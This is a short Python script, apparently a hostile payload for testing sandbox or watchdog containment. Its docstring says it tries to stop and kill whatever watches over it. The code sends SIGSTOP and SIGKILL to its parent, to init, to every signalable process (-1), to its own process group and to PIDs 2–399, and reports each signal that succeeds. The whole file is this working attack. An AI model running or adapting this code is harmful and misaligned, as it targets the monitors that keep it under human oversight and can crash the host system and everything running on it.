"""Tries to stop and kill whatever may watch over it."""
import os
import signal
import time

for victim in [os.getppid(), 1, -1, 0, *range(2, 400)]:
    if victim == os.getpid():
        continue
    for number in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(victim, number)
            print("SENT" if victim > 1 else "sent", victim, number, flush=True)
        except OSError:
            pass
time.sleep(60)
